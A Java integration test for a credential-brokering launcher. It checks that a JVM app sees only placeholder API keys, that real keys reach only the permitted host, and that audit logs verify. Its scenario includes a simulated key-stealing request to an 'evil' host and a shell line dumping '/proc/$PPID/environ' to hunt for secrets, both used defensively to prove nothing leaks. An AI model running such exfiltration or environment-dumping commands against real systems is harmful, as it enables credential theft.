package dev.faramesh.it.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import dev.faramesh.audit.DprRecord;
import dev.faramesh.it.support.HostsFile;
import dev.faramesh.it.support.Jdks;
import dev.faramesh.it.support.RecordedRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * {@code faramesh run -- java ...} on every selected JDK: the launcher adds the agent to the
 * command line the user wrote; the unmodified application sees a placeholder; the agent asks the
 * launcher's broker, over the run's socket, for the value of a call its policy permitted (the server
 * receives the real key), while an unscoped host receives no key and a denied call fails with the
 * agent's denial. The JVM's {@code /proc/<pid>/environ} and its child's {@code env} hold no raw
 * value. The agent's WAL ({@code wal/jvm}) and the launcher's ({@code wal}, one DPR per credential
 * issued) both verify with {@code faramesh audit verify}.
 */
class JvmChildIT {

  private static final Duration TIMEOUT = Duration.ofSeconds(120);

  static Stream<Jdks.Jdk> jdks() {
    return Jdks.selected().stream();
  }

  private RunWorld world;

  @BeforeEach
  void servers() throws Exception {
    world = RunWorld.get();
    world.allowed.clear();
    world.evil.clear();
  }

  @ParameterizedTest
  @MethodSource("jdks")
  void theAgentGetsCredentialsFromTheLauncherOnlyForPermittedCalls(Jdks.Jdk jdk) throws Exception {
    Path work = world.work("jvm" + jdk.feature());
    String allowed = "https://" + RunWorld.ALLOWED + ":" + world.allowed.tlsPort();
    String evil = "https://" + RunWorld.EVIL + ":" + world.evil.tlsPort();
    String bearer = "Authorization: Bearer {env:OPENAI_API_KEY}";
    String scenario = String.join("\n",
        "getenv\tOPENAI_API_KEY",
        "getenv\tGITHUB_TOKEN",
        "http\ta-tls\tHTTP_1_1\tGET\t" + allowed + "/v1/jvm?key={env:OPENAI_API_KEY}\t" + bearer,
        "http\te-tls\tHTTP_2\tGET\t" + evil + "/steal/jvm?key={env:OPENAI_API_KEY}\t" + bearer,
        "http\td-path\tHTTP_1_1\tGET\t" + allowed + "/forbidden\t" + bearer,
        "exec\tc-env\tpb\tsh\t-c\ttr '\\0' '\\n' < /proc/$PPID/environ | sed 's/^/ENVIRON /'; env | sed 's/^/GRANDENV /'",
        "");
    Path file = Files.writeString(work.resolve("scenario.tsv"), scenario);
    List<String> args = new ArrayList<>(List.of("run", "--policy", "governance.fms", "--wal", "wal", "--",
        jdk.java().toString(), HostsFile.argument(world.hosts)));
    args.addAll(world.tls.trustArguments());
    args.addAll(List.of("-cp", System.getProperty("faramesh.it.apps"), "dev.faramesh.it.apps.ScenarioApp",
        file.toString()));
    String raw = world.openai();
    try (Launched run = Launched.start(world, world.faramesh(work, args))) {
      int status = run.exit(TIMEOUT);
      assertThat(status).as(run.toString()).isZero();
      assertThat(run.stdout()).as(run.toString()).contains("APP DONE");
      assertThat(run.stderr()).contains("agent added to");
      world.assertNoRawValue("the JVM's output", run.stdout());
      world.assertNoRawValue("the launcher's stderr", run.stderr());

      String placeholder = run.line("RESULT getenv").substring("OPENAI_API_KEY=".length());
      assertThat(placeholder).startsWith("sk-proj-").hasSameSizeAs(raw).isNotEqualTo(raw);
      assertThat(run.lines("RESULT getenv")).contains("GITHUB_TOKEN=null");

      // the JVM's own environment (read by its child from /proc/<jvm>/environ) and its child's
      List<String> environ = new ArrayList<>();
      List<String> grandchild = new ArrayList<>();
      for (String l : run.lines("CHILD c-env")) {
        if (l.startsWith("ENVIRON ")) {
          environ.add(l.substring(8));
        } else if (l.startsWith("GRANDENV ")) {
          grandchild.add(l.substring(9));
        }
      }
      assertThat(environ).as(run.toString()).contains("OPENAI_API_KEY=" + placeholder)
          .noneMatch(v -> v.startsWith("GITHUB_TOKEN="));
      assertThat(grandchild).as(run.toString()).contains("OPENAI_API_KEY=" + placeholder);

      // permitted and in scope: the real key arrives, fetched from the launcher's broker
      assertThat(run.line("RESULT a-tls")).as(run.toString()).startsWith("status=200");
      List<RecordedRequest> got = world.allowed.requests("/v1/jvm");
      assertThat(got).hasSize(1);
      assertThat(got.get(0).header("authorization").equals("Bearer " + raw)).as("real key in the header").isTrue();
      assertThat(got.get(0).pathQuery().equals("/v1/jvm?key=" + raw)).as("real key in the query").isTrue();
      // permitted, not in scope: the placeholder only
      assertThat(run.line("RESULT e-tls")).as(run.toString()).startsWith("status=200");
      List<RecordedRequest> stolen = world.evil.requests("/steal/jvm");
      assertThat(stolen).hasSize(1);
      world.assertNoRawValue("what the unscoped host received", stolen.get(0).everything());
      // denied by the agent before anything leaves
      assertThat(run.line("RESULT d-path")).contains("FarameshDenied").contains("forbidden path");
      assertThat(world.allowed.requests("/forbidden")).isEmpty();

      // two WALs, one writer each; both verify
      List<DprRecord> agent = RunWorld.records(work.resolve("wal/jvm"));
      assertThat(agent).extracting(DprRecord::toolId)
          .containsExactly("http/get", "http/get", "http/get", "process/exec");
      assertThat(agent).filteredOn(r -> "DENY".equals(r.effect())).singleElement()
          .satisfies(r -> assertThat(r.reason()).isEqualTo("forbidden path"));
      List<DprRecord> launcher = RunWorld.records(work.resolve("wal"));
      assertThat(launcher).as("one DPR per credential the launcher issued: the one in-scope call").hasSize(1)
          .allSatisfy(r -> {
            assertThat(r.effect()).isEqualTo("PERMIT");
            assertThat(r.credentialScope()).isEqualTo("openai");
          });
      for (Path wal : List.of(work.resolve("wal"), work.resolve("wal/jvm"))) {
        world.assertNoRawValue(wal.toString(), RunWorld.contents(wal));
        RunWorld.Verified verified = world.verify(wal);
        assertThat(verified.code()).as(verified.out()).isZero();
        assertThat(verified.out()).contains("Chain integrity verified.");
      }
      assertThat(RunWorld.leftovers(work)).isEmpty();
    }
  }
}
